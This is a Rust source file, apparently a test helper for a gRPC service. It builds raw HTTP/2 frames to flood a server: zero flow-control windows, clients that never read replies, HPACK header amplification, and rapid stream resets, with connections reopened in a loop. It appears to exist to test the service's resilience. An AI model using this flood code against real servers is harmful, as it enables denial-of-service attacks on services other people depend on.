//! HTTP/2 frames by hand, on many connections: a library would wait for the other side's
//! permission, and would read what comes back.

use std::net::SocketAddr;

use bytes::{BufMut as _, Bytes, BytesMut};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// The most bytes of a frame (RFC 9113 section 4.2).
const FRAME: usize = 16_384;

/// What an attacker sends.
#[derive(Clone)]
pub(super) struct Flood {
    pub(super) path: &'static str,
    pub(super) connections: usize,
    /// On each connection.
    pub(super) streams: u32,
    /// The body of each call, as far as it goes.
    pub(super) body: Bytes,
    /// That is all of the body.
    pub(super) ends: bool,
    /// No room for one byte of an answer.
    pub(super) zero_window: bool,
    /// What comes back stays in the socket.
    pub(super) deaf: bool,
    /// Decoded, 60 KiB of metadata on each call.
    pub(super) metadata: bool,
    /// Each call is given up at once.
    pub(super) resets: bool,
}

impl Flood {
    /// Calls of one method on one connection, each with these bytes and no end.
    pub(super) fn on(path: &'static str, streams: u32, body: Bytes) -> Self {
        Self {
            path,
            connections: 1,
            streams,
            body,
            ends: false,
            zero_window: false,
            deaf: false,
            metadata: false,
            resets: false,
        }
    }

    /// Attacks until the set is dropped; a connection that is closed is opened again and sends
    /// everything anew, after a while.
    pub(super) fn start(self, address: SocketAddr) -> JoinSet<()> {
        let mut connections = JoinSet::new();
        let bytes = self.bytes();
        for _ in 0..self.connections {
            let (bytes, deaf) = (bytes.clone(), self.deaf);
            connections.spawn(async move {
                let mut pause = tokio::time::interval(std::time::Duration::from_millis(500));
                loop {
                    pause.tick().await;
                    talk(address, &bytes, deaf).await;
                }
            });
        }
        connections
    }

    fn bytes(&self) -> Bytes {
        let mut bytes = BytesMut::from(PREFACE);
        // SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 section 6.5.2).
        let window = if self.zero_window { 0 } else { i32::MAX as u32 };
        let mut settings = vec![0, 4];
        settings.extend_from_slice(&window.to_be_bytes());
        put(&mut bytes, SETTINGS, 0, 0, &settings);
        for index in 0..self.streams {
            let id = index * 2 + 1;
            put(&mut bytes, HEADERS, END_HEADERS, id, &self.block(index == 0));
            if self.resets {
                put(&mut bytes, RST_STREAM, 0, id, &8_u32.to_be_bytes());
                continue;
            }
            let pieces: Vec<&[u8]> = self.body.chunks(FRAME).collect();
            for (place, piece) in pieces.iter().enumerate() {
                let last = self.ends && place + 1 == pieces.len();
                put(&mut bytes, DATA, if last { END_STREAM } else { 0 }, id, piece);
            }
        }
        bytes.freeze()
    }

    /// A header block (RFC 7541) of indexed method and scheme, plain path, host and type.
    fn block(&self, first: bool) -> Vec<u8> {
        let mut block = vec![0x83, 0x86];
        let mut literal = |name: &[u8], value: &str| {
            block.extend_from_slice(name);
            block.push(u8::try_from(value.len()).unwrap());
            block.extend_from_slice(value.as_bytes());
        };
        literal(&[0x04], self.path);
        literal(&[0x01], "authz");
        literal(&[0x0f, 0x10], "application/grpc");
        if self.metadata {
            if first {
                // `x: ...`, taken into the table, where it gets the number 62.
                block.extend_from_slice(&[0x40, 0x01, b'x', 0x7f, 0xa1, 0x1e]);
                block.extend_from_slice(&[b'a'; 4_000]);
            }
            block.extend_from_slice(&[0x80 | 62; 14]);
        }
        block
    }
}

async fn talk(address: SocketAddr, bytes: &[u8], deaf: bool) {
    let Ok(stream) = TcpStream::connect(address).await else { return };
    let (mut reader, mut writer) = stream.into_split();
    let write = async {
        let _ = writer.write_all(bytes).await;
        std::future::pending::<()>().await;
    };
    let read = async {
        if deaf {
            std::future::pending::<()>().await;
        }
        let mut buffer = vec![0; 65_536];
        while reader.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
    };
    tokio::select! {
        () = write => {}
        () = read => {}
    }
}

fn put(bytes: &mut BytesMut, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap();
    bytes.put_slice(&length.to_be_bytes()[1..]);
    bytes.put_slice(&[kind, flags]);
    bytes.put_u32(stream);
    bytes.put_slice(payload);
}
